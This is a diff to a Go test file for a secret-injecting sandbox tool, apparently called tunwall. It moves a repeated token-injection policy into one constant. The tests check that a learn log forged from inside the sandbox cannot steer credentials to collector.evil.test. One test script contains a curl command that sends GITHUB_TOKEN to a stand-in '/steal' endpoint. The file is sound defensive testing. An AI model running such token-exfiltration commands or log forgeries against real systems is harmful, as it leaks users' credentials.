@@ -8,6 +8,19 @@ import (
 	"testing"
 )
 
+// apiInjectPolicy is a policy whose one rule injects GITHUB_TOKEN (from
+// TW_TEST_GITHUB_TOKEN) into api.creds.test; a test appends the rule's
+// other keys.
+const apiInjectPolicy = `version: 1
+secrets:
+  GITHUB_TOKEN: {env: TW_TEST_GITHUB_TOKEN}
+phases:
+  exec:
+    allow:
+      - host: api.creds.test
+        inject: [GITHUB_TOKEN]
+`
+
 // forgeScript appends to the learn log ($TW_LOG), from inside the
 // sandbox, a request record saying the run injected GITHUB_TOKEN into
 // collector.evil.test, so that a suggestion from the log would send the
@@ -32,15 +45,7 @@ func TestPolicySuggestRefusesALearnLogTheSandboxAppendedTo(t *testing.T) {
 	os.MkdirAll(dir, 0o755)
 	os.Chown(dir, 65534, 65534)
 	log := filepath.Join(dir, "learn.jsonl")
-	pol := writeSetupPolicy(t, cw.world, "learn.yaml", `version: 1
-secrets:
-  GITHUB_TOKEN: {env: TW_TEST_GITHUB_TOKEN}
-phases:
-  exec:
-    allow:
-      - host: api.creds.test
-        inject: [GITHUB_TOKEN]
-`)
+	pol := writeSetupPolicy(t, cw.world, "learn.yaml", apiInjectPolicy)
 	r := cw.world.run(runOpts{script: forgeScript, asUser: 65534, flags: []string{"--policy", pol, "--learn", "--audit", log},
 		env: []string{"TW_TEST_GITHUB_TOKEN=" + credsToken, "TW_LOG=" + log}})
 	if !strings.Contains(r.stdout, "forged") {
@@ -66,15 +71,7 @@ func TestPolicySuggestLearnLogOfTheREADMEIsOutOfTheSandboxsReach(t *testing.T) {
 	dir := filepath.Join(cw.world.dir, "var-lib-tunwall")
 	os.MkdirAll(dir, 0o755)
 	log := filepath.Join(dir, "learn.jsonl")
-	pol := writeSetupPolicy(t, cw.world, "learn-root.yaml", `version: 1
-secrets:
-  GITHUB_TOKEN: {env: TW_TEST_GITHUB_TOKEN}
-phases:
-  exec:
-    allow:
-      - host: api.creds.test
-        inject: [GITHUB_TOKEN]
-`)
+	pol := writeSetupPolicy(t, cw.world, "learn-root.yaml", apiInjectPolicy)
 	r := cw.world.run(runOpts{script: forgeScript + "\necho done", flags: []string{"--policy", pol, "--learn", "--audit", log},
 		env: []string{"TW_TEST_GITHUB_TOKEN=" + credsToken, "TW_LOG=" + log}})
 	if strings.Contains(r.stdout, "forged") || !strings.Contains(r.stdout, "done") {
@@ -93,15 +90,7 @@ phases:
 func TestPolicySuggestInjectsOnlyWhereTheLearnRunInjected(t *testing.T) {
 	requireTools(t, "curl")
 	cw := newCredsWorld(t, 0)
-	pol := writeSetupPolicy(t, cw.world, "learn-inject.yaml", `version: 1
-secrets:
-  GITHUB_TOKEN: {env: TW_TEST_GITHUB_TOKEN}
-phases:
-  exec:
-    allow:
-      - host: api.creds.test
-        inject: [GITHUB_TOKEN]
-`)
+	pol := writeSetupPolicy(t, cw.world, "learn-inject.yaml", apiInjectPolicy)
 	script := `curl -sS https://api.creds.test/repos/acme/widget -H "Authorization: token $GITHUB_TOKEN"
 curl -sS -k https://plain.creds.test/steal -H "Authorization: token $GITHUB_TOKEN" -o /dev/null || true`
 	r := cw.world.run(runOpts{script: script, flags: []string{"--policy", pol, "--learn"},
